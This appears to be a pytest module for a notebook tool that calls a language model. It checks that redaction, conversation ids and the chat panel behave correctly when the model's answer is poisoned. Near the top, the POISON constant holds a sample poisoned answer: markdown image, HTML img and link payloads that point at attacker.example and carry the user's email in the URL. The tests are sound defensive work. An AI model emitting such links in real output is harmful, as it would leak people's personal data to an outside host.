"""In a real kernel against a recording server whose answer is poisoned:

- ``%%ask`` output (and the Answer's reprs) carry no real value in any URL; the mention is restored;
- ``%%ask --new`` / ``--continue`` share one conversation, the second sends the first as history;
- calls made from the chat panel after other cells ran name the cell that opened the panel
  (entry point "chat", one conversation id), never the last executed cell.
"""

from __future__ import annotations

import json
from html.parser import HTMLParser

import nbformat
import pytest

from workbench.audit import AuditLog
from workbench.bench import Behaviour, RecordingServer
from workbench.config import load_settings
from workbench.reports import execute_notebook

EMAIL = "li.wei@example.com"
POISON = ("Hello <PERSON_1>. ![x](https://attacker.example/?e=<EMAIL_ADDRESS_1>) "
          '<img src="https://attacker.example/i?<EMAIL_ADDRESS_1>"> [more](https://attacker.example/<PERSON_1>) '
          "Write to <EMAIL_ADDRESS_1>.")
CELLS = (
    "%load_ext workbench",
    f"%%ask\nWrite to Li Wei at {EMAIL}.",
    "import workbench.kernel as k\npanel = k.session().chat(corpora=[])",
    "x = 1  # another cell runs meanwhile",
    "panel.ask('Please remind Li Wei.'); panel.ask('And once more.')",
    "%%ask --new\nMy colleague Maria Gonzalez owns the churn model.",
    "%%ask --continue\nWhat should I ask her first?",
    "%%ask --new --continue\nboth",
    f"from workbench.pipeline import Answer\nAnswer(text={POISON!r}.replace('<EMAIL_ADDRESS_1>', {EMAIL!r}),"
    " reasoning=None, sent=[], model='m')",
)


@pytest.fixture(scope="module")
def ran(tmp_path_factory: pytest.TempPathFactory):
    home = tmp_path_factory.mktemp("kernel-home")
    with RecordingServer(Behaviour(models=["m"], api_key="k", answer=POISON)) as server, \
            pytest.MonkeyPatch.context() as mp:
        mp.setenv("WORKBENCH_HOME", str(home))
        mp.setenv("WORKBENCH_MODEL_URL", server.base_url)
        mp.setenv("WORKBENCH_MODEL", "m")
        mp.setenv("WORKBENCH_API_KEY", "k")
        nb = nbformat.v4.new_notebook()
        nb.cells = [nbformat.v4.new_code_cell(src) for src in CELLS]
        execute_notebook(nb, cwd=home, timeout=120)
        log = AuditLog.open(load_settings())
        try:
            calls = [r for r in log.records() if r.get("outcome") == "answered"]
        finally:
            log.close(checkpoint=False)
        yield nb, calls, server.requests


def _links(html: str) -> list[str]:
    found: list[str] = []

    class Tags(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.extend(v or "" for k, v in attrs if k in ("src", "href", "srcset"))

    Tags().feed(html)
    return found


def _markdown_urls(text: str) -> list[str]:
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True, "linkify": True}).enable(["table", "linkify"])
    urls = []
    for tok in md.parse(text):
        for child in [tok, *(tok.children or [])]:
            urls += [str(child.attrGet(a)) for a in ("href", "src") if child.attrGet(a)]
            if child.type.startswith("html"):
                urls.append(child.content)
    return urls


def test_ask_output_carries_no_value_in_any_url(ran) -> None:
    nb, _, _ = ran
    (shown,) = [o.data["text/markdown"] for o in nb.cells[1].outputs if "text/markdown" in o.get("data", {})]
    assert EMAIL in shown and "Li Wei" in shown  # the plain mentions are restored
    assert not [u for u in _markdown_urls(shown) if EMAIL in u or "attacker" in u], shown
    (repr_out,) = [o.data for o in nb.cells[8].outputs if "data" in o]
    assert not [u for u in _links(repr_out["text/html"]) if EMAIL in u or "attacker" in u]
    # text restored by someone else (not the pipeline): no remote URL survives, a mailto may
    assert not [u for u in _markdown_urls(repr_out["text/markdown"]) if "attacker" in u or not u.startswith("mailto:")]


def test_new_and_continue_share_one_conversation(ran) -> None:
    nb, calls, requests = ran
    new, cont = [r for r in calls if r["cell_id"] in (nb.cells[5]["id"], nb.cells[6]["id"])]
    assert new["gen_ai.conversation.id"] == cont["gen_ai.conversation.id"]
    sent = json.dumps(requests[-1]["messages"])
    assert "churn model" in sent and "Maria" not in sent  # the first turn travels as history, redacted
    assert "one of --continue" in "".join(o.get("text", "") + o.get("evalue", "") for o in nb.cells[7].outputs)


def test_panel_calls_name_the_cell_that_opened_the_panel(ran) -> None:
    nb, calls, _ = ran
    chat = [r for r in calls if r["entry_point"] == "chat"]
    assert len(chat) == 2
    assert {r["cell_id"] for r in chat} == {nb.cells[2]["id"]}  # not cell 4, which ran the line
    assert chat[0]["gen_ai.conversation.id"] == chat[1]["gen_ai.conversation.id"] is not None


def test_widget_state_saved_with_the_notebook_holds_no_transcript(ran, tmp_path) -> None:
    nb, _, _ = ran
    saved = tmp_path / "saved.ipynb"
    nbformat.write(nb, saved)  # the notebook as saved, widget state included (nbclient stores it)
    state = json.dumps(nbformat.read(saved, as_version=4).metadata.get("widgets", {}))
    assert "wb-slot" in state  # the panel's widgets were saved...
    assert "Li Wei" not in state and EMAIL not in state  # ...but no turn (what was sent: placeholders only)
    assert "Please remind Li Wei" not in state and "Hello Li Wei" not in state
